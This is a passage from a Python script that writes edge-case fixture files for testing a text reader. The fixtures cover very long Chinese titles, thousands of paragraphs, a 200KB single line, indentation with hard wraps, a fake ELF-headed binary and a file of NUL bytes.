        'Mixed with ASCII: “quoted” text, an em dash — and an ellipsis…, 25°C ± 2, § 7, α-β.',
    ]
    write('ambiguous.txt', article('2024-12-01 12:00', '东亚模糊宽度字符：“引号”与①②', paras))


def gen_long_title():
    seed = '关于进一步加强重点实验室建设与运行管理推动科技成果转化和人才培养的若干意见'
    title = (seed * (3000 // len(seed) + 1))[:3000]
    assert len(title) == 3000 and all(ord(c) > 0x2E80 for c in title)
    paras = [
        '本文的标题有3000个汉字，用于测试标题的截断、换行和滚动。',
        '正文很短。',
    ]
    write('long-title.txt', article('2024-02-02 02:02', title, paras))


def gen_many_paras():
    subjects = ['城市', 'robot', '图书馆', 'GPU', '地铁', 'API', '湿地', 'CPU', '实验室', 'Wi-Fi']
    verbs = ['更新了', 'uses', '开放了', 'runs', '延长了', 'calls', '修复了', 'parses']
    paras = []
    for i in range(2000):
        s = subjects[i % len(subjects)]
        v = verbs[(i * 7) % len(verbs)]
        paras.append(f'第{i + 1}段：{s} {v} item {i * 37 % 1000}。')
    write('many-paras.txt', article('2024-01-15 15:15', '两千个短段落', paras))


def gen_one_line():
    pieces = ['这是一行没有任何换行符的超长中文文本', '，', '用于测试阅读器在单行二十万字节时的换行与分页性能',
              '；', '其中夹杂着数字2024和标点符号', '。', '阅读器不应因此卡顿或崩溃', '！']
    target = 200 * 1024
    out = []
    size = 0
    i = 0
    while True:
        p = pieces[i % len(pieces)]
        b = len(p.encode('utf-8'))
        if size + b > target:
            break
        out.append(p)
        size += b
        i += 1
    text = ''.join(out)
    text += '.' * (target - len(text.encode('utf-8')))
    data = text.encode('utf-8')
    assert len(data) == target and b'\n' not in data and b'\r' not in data
    write('one-line.txt', data)


def gen_indent():
    paras_raw = [
        '第一段没有缩进，这是文章的开头。',
        '\u3000\u3000这一段用两个全角空格缩进，这是中文排版中最常见的段首缩进方式。',
        '    这一段用四个半角空格缩进。',
        '这一段又没有缩进，紧跟在缩进段落之后。',
        '\u3000\u3000这是一个被硬换行的长段落，每一行大约\n'
        '二十个汉字就被强制折行，阅读器在合并这\n'
        '些行的时候，不应该在汉字之间插入任何空\n'
        '格，也不应该在标点前后插入空格。',
        '  这个段落用两个半角空格缩进，同样被硬换\n'
        '行了：中间的行首没有缩进，行尾也没有空\n'
        '格；合并后应当是一整句完整的话。',
        '没有缩进的硬换行段落，数字１２３和汉字\n'
        '交替出现，例如2024年\n'
        '5月，也不应插入空格。',
    ]
    out = header('2024-03-03 03:03', '段首缩进与硬换行') + '\n\n  \n\n' + '\n\n'.join(paras_raw) + '\n'
    write('indent.txt', out)


def gen_binary():
    data = bytearray(b'\x7fELF')
    counter = 0
    while len(data) < 2048:
        data += hashlib.sha256(b'reader-binary-fixture-%d' % counter).digest()
        counter += 1
    write('binary.bin', bytes(data[:2048]))


def gen_nuls():
    write('nuls.txt', b'\x00' * 1000)


def main():
    gen_cjk()
    gen_no_header()
    gen_no_header_para()
    gen_fullwidth_colon()
    gen_url_header()
    gen_japanese()
    gen_latin()
    gen_emoji()
    gen_combining()
    gen_narrow()
    gen_verse()
    gen_rtl()
    gen_gb18030()
    gen_bom_crlf()
    gen_cr_only()
    gen_utf16()
    gen_invalid_utf8()
    gen_escapes()
    gen_tabs()
    gen_related()
    gen_empty_blank()
    gen_widths()
    gen_ambiguous()
    gen_long_title()
    gen_many_paras()
    gen_one_line()
    gen_indent()
    gen_binary()
    gen_nuls()
    for name, size in WRITTEN:
        print(f'{size:8d}  {name}')


if __name__ == '__main__':
    main()
